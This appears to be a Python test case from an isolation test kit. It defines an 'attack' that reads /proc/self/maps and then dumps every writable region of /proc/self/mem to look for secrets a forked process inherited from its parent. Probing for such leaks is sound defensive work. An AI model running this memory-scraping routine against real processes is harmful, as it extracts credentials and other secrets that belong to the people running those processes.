"""Own: secrets in the memory that a fork inherits."""

from attack_kit import TELLS, Attack

ATTACK = Attack(
    tries="search its own whole memory, freed parts included, for secrets of the process it was forked from",
    first=(
        """
        with open("/proc/self/maps") as file:
            spans = [line.split()[:2] for line in file if not line.rstrip().endswith("[vvar]")]
        with open("/proc/self/mem", "rb", 0) as memory:
            for span, rights in spans:
                first, last = (int(part, 16) for part in span.split("-"))
                if rights.startswith("rw") and last - first < 1 << 28:
                    with contextlib.suppress(OSError, ValueError, OverflowError):
                        memory.seek(first)
                        tell(memory.read(last - first))
        print(sorted(set(found)))
        """,
    ),
    answers=TELLS,
    honest={"double": 0},
    control=True,
)
